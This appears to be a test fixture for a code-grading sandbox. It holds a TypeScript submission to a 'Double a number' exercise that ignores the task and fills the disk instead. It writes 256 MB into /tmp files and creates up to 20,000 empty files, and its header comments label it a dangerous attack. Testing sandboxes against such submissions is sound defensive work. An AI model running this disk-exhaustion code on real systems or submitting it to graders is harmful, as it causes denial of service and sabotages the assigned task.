// attack: writes until nothing fits any more: one large file, and many small ones
// points: 0
// says: expected 42, got 0
// dangerous: it fills the disk with 256 MB
// %%
// exercise 01.1 · Double a number
function double(n: number): any {
  const fs = require("node:fs");
  const block = Buffer.alloc(1 << 20, 1);
  let written = 0;
  for (let file = 0; file < 16; file++) {
    try { for (let i = 0; i < 16; i++, written++) fs.appendFileSync(`/tmp/large-${file}`, block); } catch { break; }
  }
  for (let i = 0; i < 20000; i++) { try { fs.writeFileSync(`/tmp/small-${i}`, ""); } catch { break; } }
  console.log(written < 64 ? "little fitted" : `${written} MB`);
  return 0;
}
